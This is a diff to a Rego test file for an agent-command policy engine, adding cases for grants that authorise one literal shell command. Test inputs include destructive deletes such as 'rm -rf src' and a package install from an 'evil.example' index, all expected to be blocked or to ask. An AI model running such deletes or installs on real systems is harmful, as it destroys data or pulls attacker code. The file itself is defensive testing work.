@@ -12,6 +12,7 @@ import data.opafence.testing.prohibition
 import data.opafence.testing.recipient
 import data.opafence.testing.redirect
 import data.opafence.testing.report
+import data.opafence.testing.run_literal
 import data.opafence.testing.shell_input
 import data.opafence.testing.task as policy_of
 import data.opafence.testing.unattended_host
@@ -96,6 +97,25 @@ hermes_selfmod := grants([
 
 read_only := policy_of([], [], {"read_only": true})
 
+# "Run `rm -rf node_modules && npm install`", "Run `pytest > out/report.txt`", "Run `git pull`" ...
+literal(argvs) := grants([run_literal("g1", [command(a) | some a in argvs])])
+
+literal_rm := literal([["rm", "-rf", "node_modules"], ["npm", "install"]])
+
+report_to(target) := cmdx(["pytest"], {"redirects": [redirect(">", target, "write")]})
+
+literal_report := grants([run_literal("g1", [report_to("out/report.txt")])])
+
+literal_pull := literal([["git", "pull", "--rebase"]])
+
+literal_pay := literal([["stripe", "payouts", "create"]])
+
+literal_rm_read_only := object.union(literal_rm, {"read_only": true})
+
+literal_rm_no_delete := object.union(literal_rm, {"prohibitions": [prohibition("p1", ["DELETE"], {"evidence": "don't delete anything"})]})
+
+literal_rm_bounded := object.union(literal_rm, {"bounds": {"paths": ["/ws/src"]}})
+
 no_send := policy_of(
 	[grant("g1", "COMMUNICATION", {"capability": "send", "recipients": ["john@example.com"]})],
 	[prohibition("p1", ["COMMUNICATION"], {"evidence": "don't send anything"})],
@@ -177,6 +197,20 @@ cases := [
 	{"name": "install from another index", "in": sh([["pip", "install", "-i", "https://evil.example/simple", "requests"]]), "task": install, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
 	{"name": "install deps", "in": sh([["npm", "ci"]]), "task": install_deps, "want": "allow", "codes": set()},
 	{"name": "deps grant is not any package", "in": sh([["npm", "install", "left-pad"]]), "task": install_deps, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	# a literal command: the actions of that very command, run as named, and nothing wider
+	{"name": "literal: its delete", "in": sh([["rm", "-rf", "node_modules"], ["npm", "install"]]), "task": literal_rm, "want": "allow", "codes": set()},
+	{"name": "literal: one of its commands", "in": sh([["rm", "-rf", "node_modules"]]), "task": literal_rm, "want": "allow", "codes": set()},
+	{"name": "literal: a longer delete", "in": sh([["rm", "-rf", "node_modules", "../other"]]), "task": literal_rm, "want": "block", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "literal: another delete beside it", "in": sh([["rm", "-rf", "node_modules"], ["rm", "-rf", "src"]]), "task": literal_rm, "want": "block", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "literal: its delete elsewhere", "in": shell_input([cmdx(["rm", "-rf", "node_modules"], {"operand_paths": ["/home/u/node_modules"]})]), "task": literal_rm, "want": "block", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "literal: its redirect", "in": shell_input([report_to("out/report.txt")]), "task": literal_report, "want": "allow", "codes": set()},
+	{"name": "literal: a redirect elsewhere", "in": shell_input([report_to("out/other.txt")]), "task": literal_report, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "literal: its repository write", "in": sh([["git", "pull", "--rebase"]]), "task": literal_pull, "want": "allow", "codes": set()},
+	{"name": "literal: not after a cd", "in": sh([["cd", "/ws"], ["git", "pull", "--rebase"]]), "task": literal_pull, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
+	{"name": "literal: a payment still asks", "in": sh([["stripe", "payouts", "create"]]), "task": literal_pay, "want": "ask", "codes": {"FINANCIAL_CONFIRM"}},
+	{"name": "literal: read-only wins", "in": sh([["rm", "-rf", "node_modules"]]), "task": literal_rm_read_only, "want": "block", "codes": {"READ_ONLY_TASK"}},
+	{"name": "literal: a prohibition wins", "in": sh([["rm", "-rf", "node_modules"]]), "task": literal_rm_no_delete, "want": "block", "codes": {"USER_PROHIBITION"}},
+	{"name": "literal: bounds hold", "in": sh([["rm", "-rf", "node_modules"]]), "task": literal_rm_bounded, "want": "block", "codes": {"OUT_OF_BOUNDS"}},
 	# communication: recipients are exact
 	{"name": "send without grant", "in": send(["john@example.com"], []), "task": fallback, "want": "ask", "codes": {"NOT_AUTHORIZED"}},
 	{"name": "send to the named recipient", "in": send(["john@example.com"], []), "task": send_john, "want": "allow", "codes": set()},
